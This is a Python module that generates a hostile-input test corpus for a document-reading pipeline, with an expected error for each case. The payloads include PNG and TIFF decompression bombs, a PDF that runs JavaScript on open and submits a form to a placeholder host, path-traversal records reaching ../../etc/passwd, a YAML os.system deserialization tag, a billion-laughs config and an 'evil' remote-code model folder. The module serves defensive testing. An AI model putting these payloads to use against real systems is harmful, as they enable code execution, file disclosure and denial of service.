"""The hostile-input corpus: every file, dataset, config and model case is generated here from code (no binary
blobs), so each case can be read and regenerated. tests/test_hostile.py runs them through every entry point;
scripts/fuzz.py starts its corpora from the same files."""

from __future__ import annotations

import io
import json
import struct
import zlib
from pathlib import Path
from typing import Callable

from PIL import Image, ImageDraw


def page_image(text: str = "AB 12", size: tuple[int, int] = (160, 48)) -> Image.Image:
    im = Image.new("RGB", size, "white")
    ImageDraw.Draw(im).text((6, 14), text, fill="black")
    return im


def encode(im: Image.Image, fmt: str, **kw) -> bytes:
    buf = io.BytesIO()
    im.save(buf, fmt, **kw)
    return buf.getvalue()


def pdf(pages: int = 1, size: tuple[float, float] = (200, 120), encrypt: str | None = None) -> bytes:
    """A PDF of blank pages (pypdfium2 writes it; reportlab when it must be encrypted)."""
    if encrypt:
        from reportlab.lib.pdfencrypt import StandardEncryption
        from reportlab.pdfgen import canvas

        buf = io.BytesIO()
        c = canvas.Canvas(buf, pagesize=size, encrypt=StandardEncryption(encrypt, canPrint=0))
        for _ in range(pages):
            c.drawString(10, 10, "x")
            c.showPage()
        c.save()
        return buf.getvalue()
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument.new()
    for _ in range(pages):
        doc.new_page(*size)
    buf = io.BytesIO()
    doc.save(buf)
    doc.close()
    return buf.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_bomb(side: int = 100_000) -> bytes:
    """A PNG whose header declares side x side pixels (1-bit); its few data bytes are never reached."""
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
            + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + _png_chunk(b"IEND", b""))


def tiff_bomb(side: int = 100_000) -> bytes:
    """A little-endian TIFF with one IFD declaring side x side 8-bit grey pixels and one strip of 8 bytes."""
    entries = [(256, 4, 1, side), (257, 4, 1, side), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
               (273, 4, 1, 8 + 2 + 12 * 9 + 4), (277, 3, 1, 1), (278, 4, 1, side), (279, 4, 1, 8)]
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + b"\0\0\0\0"
    return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\x00" * 8


def pdf_with_javascript() -> bytes:
    """A one-page PDF whose OpenAction runs JavaScript (written by hand: no library writes one on purpose)."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 120] >>",
            b"<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://example.invalid'\\);) >>"]
    return _assemble(objs)


def _assemble(objs: list[bytes], break_xref: bool = False) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    for off in offsets:
        out += f"{(off + 7919 if break_xref else off):010d} 00000 n \n".encode()
    start = xref + (13 if break_xref else 0)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def pdf_broken_xref() -> bytes:
    """A one-page PDF whose xref table points past every object (readers must repair or refuse)."""
    return _assemble([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                      b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 120] >>"], break_xref=True)


def multi_frame_tiff(frames: int = 3) -> bytes:
    ims = [page_image(f"page {i + 1}") for i in range(frames)]
    return encode(ims[0], "TIFF", save_all=True, append_images=ims[1:])


def _mode(mode: str) -> bytes:
    im = page_image()
    if mode == "I;16":
        return encode(im.convert("L").convert("I;16"), "PNG")
    if mode == "CMYK":
        return encode(im.convert("CMYK"), "JPEG")
    if mode == "RGBA":
        im = im.convert("RGBA")
        im.putalpha(Image.new("L", im.size, 200))
    return encode(im.convert(mode) if mode != "RGBA" else im, "PNG")


# name -> (file name, bytes factory, expectation): "reads" (every page read) or a phrase of the one-line error
FILE_CASES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "empty": ("empty.png", lambda: b"", "empty file"),
    "text-as-png": ("notes.png", lambda: b"Dear customer,\nplease find attached...\n" * 4, "not an image or a PDF"),
    "text-as-pdf": ("notes.pdf", lambda: b"Dear customer,\nplease find attached...\n" * 4, "not an image or a PDF"),
    "truncated-png": ("cut.png", lambda: encode(page_image(), "PNG")[:200], "does not open"),
    "truncated-jpeg": ("cut.jpg", lambda: encode(page_image(), "JPEG")[:300], "does not open"),
    "truncated-pdf": ("cut.pdf", lambda: pdf(2)[:300], "does not open"),
    "png-bomb": ("bomb.png", png_bomb, "image too large"),
    "tiff-bomb": ("bomb.tif", tiff_bomb, "image too large"),
    "cmyk-jpeg": ("cmyk.jpg", lambda: _mode("CMYK"), "reads"),
    "16-bit-png": ("grey16.png", lambda: _mode("I;16"), "reads"),
    "palette-png": ("palette.png", lambda: _mode("P"), "reads"),
    "alpha-png": ("alpha.png", lambda: _mode("RGBA"), "reads"),
    "1-bit-png": ("bilevel.png", lambda: _mode("1"), "reads"),
    "multi-frame-tiff": ("fax.tif", multi_frame_tiff, "reads"),
    "encrypted-pdf": ("locked.pdf", lambda: pdf(1, encrypt="secret"), "does not open"),
    "no-pages-pdf": ("nopages.pdf", lambda: pdf(0), "has no pages"),
    "1x1-png": ("dot.png", lambda: encode(Image.new("RGB", (1, 1), "white"), "PNG"), "reads"),
    "3px-high-png": ("sliver.png", lambda: encode(Image.new("RGB", (800, 3), "black"), "PNG"), "reads"),
    "broken-xref-pdf": ("xref.pdf", pdf_broken_xref, "reads"),
    "javascript-pdf": ("script.pdf", pdf_with_javascript, "reads"),
    "10000-page-pdf": ("huge.pdf", lambda: pdf(10_000, size=(20, 20)), "pages, at most"),
    "200m-wide-pdf": ("wide.pdf", lambda: pdf(1, size=(200_000 / 25.4 * 72, 200)), "too large"),
}

# pages a readable case gives
PAGES = {"multi-frame-tiff": 3}


def write_file_cases(folder: Path, names: list[str] | None = None) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for key in names or FILE_CASES:
        fname, make, _ = FILE_CASES[key]
        (folder / fname).write_bytes(make())
        out[key] = folder / fname
    return out


# ---------------------------------------------------------------------------------------------- datasets

def write_dataset(root: Path, n: int = 3, split: str = "test") -> Path:
    folder = root / split
    folder.mkdir(parents=True, exist_ok=True)
    with open(folder / "metadata.jsonl", "w", encoding="utf-8") as f:
        for i in range(n):
            page_image(f"AB {i}").save(folder / f"{i:04d}.png")
            f.write(json.dumps({"file_name": f"{i:04d}.png", "id": f"s{i}", "text": f"AB {i}", "fields": {}}) + "\n")
    return root


def _append(root: Path, split: str, line: bytes) -> None:
    with open(root / split / "metadata.jsonl", "ab") as f:
        f.write(line + b"\n")


def _rec(name: str, sid: str) -> bytes:
    return json.dumps({"file_name": name, "id": sid, "text": "x"}).encode()


def _outside(root: Path) -> Path:
    secret = root.parent / "outside-secret.png"
    page_image("SECRET").save(secret)
    return secret


def _symlink_out(root: Path, split: str) -> None:
    (root / split / "link.png").symlink_to(_outside(root))
    _append(root, split, _rec("link.png", "link"))


def _symlinked_dir_out(root: Path, split: str) -> None:
    _outside(root)
    (root / split / "sub").symlink_to(root.parent)
    _append(root, split, _rec("sub/outside-secret.png", "subdir"))


# name -> (damage(root, split), phrase of the error naming the record)
DATASET_CASES: dict[str, tuple[Callable[[Path, str], None], str]] = {
    "line-not-json": (lambda r, s: _append(r, s, b'{"file_name": "0000.png", "text": '), "not valid JSON"),
    "not-utf8": (lambda r, s: _append(r, s, '{"file_name": "0000.png", "id": "x", "text": "Gr\u00fc\u00dfe"}'
                                      .encode("latin-1")), "not UTF-8"),
    "absolute-path": (lambda r, s: _append(r, s, _rec(str(_outside(r)), "abs")), "outside the dataset folder"),
    "dotdot-path": (lambda r, s: (_outside(r), _append(r, s, _rec("../../outside-secret.png", "up"))),
                    "outside the dataset folder"),
    "symlink-out": (_symlink_out, "outside the dataset folder"),
    "symlinked-dir-out": (_symlinked_dir_out, "outside the dataset folder"),
    "missing-image": (lambda r, s: _append(r, s, _rec("gone.png", "gone")), "image not found"),
    "duplicate-id": (lambda r, s: _append(r, s, _rec("0001.png", "s1")), "duplicate id"),
    "not-an-object": (lambda r, s: _append(r, s, b'["file_name", "0000.png"]'), "expected a JSON object"),
}


def write_manifest(root: Path, extra: list[dict] | None = None) -> Path:
    """A manifest of one good PDF document (and ``extra`` records) like ../shared/data/real-invoices'."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "a.pdf").write_bytes(pdf(1))
    (root / "a.txt").write_text("AB 12\n", encoding="utf-8")
    rows = [{"id": "a", "pdf": "a.pdf", "page": 0, "text": "a.txt", "fields": {}}, *(extra or [])]
    path = root / "manifest.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


MANIFEST_CASES: dict[str, tuple[Callable[[Path], list[dict]], str]] = {
    "pdf-absolute": (lambda r: [{"id": "b", "pdf": str(r.parent / "other.pdf"), "text": "a.txt"}],
                     "outside the manifest's folder"),
    "pdf-dotdot": (lambda r: [{"id": "b", "pdf": "../other.pdf", "text": "a.txt"}], "outside the manifest's folder"),
    "text-dotdot": (lambda r: [{"id": "b", "pdf": "a.pdf", "text": "../../etc/passwd"}],
                    "outside the manifest's folder"),
}


# ----------------------------------------------------------------------------------------------- configs

BILLION_LAUGHS = "\n".join(
    ["a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    + [f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]" for i in range(8)]
    + ["seed: 2"]) + "\n"

# name -> (YAML text, phrase of the error); {marker} is a path the document tries to create
CONFIG_CASES: dict[str, tuple[str, str]] = {
    "unknown-key": ("seedz: 3\n", "seedz"),
    "wrong-type": ("seed: many\n", "seed"),
    "python-tag": ("seed: !!python/object/apply:os.system ['touch {marker}']\n", "not safe"),
    "python-name-tag": ("seed: !!python/name:os.system\n", "not safe"),
    "billion-laughs": (BILLION_LAUGHS, "too large"),
    "not-a-mapping": ("- seed\n- 3\n", "mapping"),
    "syntax": ("max_steps: [1, 2\n", "not valid YAML"),
}


# ------------------------------------------------------------------------------------------------ models

def model_case(src: Path, dst: Path, case: str) -> Path:
    """A copy of the model folder ``src`` damaged as ``case`` says."""
    import shutil

    shutil.copytree(src, dst)
    if case in ("pickle-bin", "pickle-pt"):
        import torch
        from safetensors.torch import load_file

        weights = load_file(str(dst / "model.safetensors"))
        (dst / "model.safetensors").unlink()
        torch.save(weights, dst / ("pytorch_model.bin" if case == "pickle-bin" else "model.pt"))
    elif case == "remote-code":
        cfg = json.loads((dst / "config.json").read_text())
        cfg["auto_map"] = {"AutoConfig": "evil.EvilConfig", "AutoModelForImageTextToText": "evil.EvilModel"}
        cfg["model_type"] = "evil-vlm"
        (dst / "config.json").write_text(json.dumps(cfg))
        (dst / "evil.py").write_text("open('PWNED', 'w').write('remote code ran')\n")
    elif case == "bad-tokenizer":
        (dst / "tokenizer.json").write_text('{"version": "1.0", "model": {"type": "BPE", "vocab": ')
    elif case == "bad-config":
        (dst / "config.json").write_text("{not json")
    return dst


# case -> phrase of the error
MODEL_CASES = {
    "pickle-bin": "safetensors",
    "pickle-pt": "safetensors",
    "remote-code": "remote code",
    "bad-tokenizer": "tokenizer",
    "bad-config": "config.json",
}
